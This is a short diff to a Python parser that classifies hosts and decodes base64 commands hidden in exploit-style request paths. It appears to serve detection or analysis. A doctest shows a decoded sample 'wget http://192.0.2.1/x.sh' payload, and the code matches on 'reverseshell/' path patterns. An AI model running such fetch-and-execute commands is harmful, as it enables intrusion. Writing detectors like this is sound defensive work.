@@ -142,8 +142,10 @@ def host_kind(host: str) -> str | None:
         >>> host_kind("198.51.100.7"), host_kind("2001:db8::1"), host_kind("a.test")
         ('ipv4', 'ipv6', None)
     """
-    if ":" not in host and not _DOTTED_QUAD.fullmatch(host):
-        return None
+    if ":" not in host:
+        if not _DOTTED_QUAD.fullmatch(host):
+            return None
+        return "ipv4" if all(int(part) <= 255 for part in host.split(".")) else None
     try:
         address = ipaddress.ip_address(host)
     except ValueError:
@@ -192,6 +194,9 @@ def commands(path: str) -> tuple[str, ...]:
         >>> commands("/Basic/Command/Base64/d2dldCBodHRwOi8vMTkyLjAuMi4xL3guc2g=")
         ('wget http://192.0.2.1/x.sh',)
     """
+    lowered = path.lower()
+    if "command/" not in lowered and "reverseshell/" not in lowered:
+        return ()
     found: list[str] = []
     for match in _COMMAND_B64.finditer(path):
         token = match.group(1).replace("%3D", "=").replace("%3d", "=")
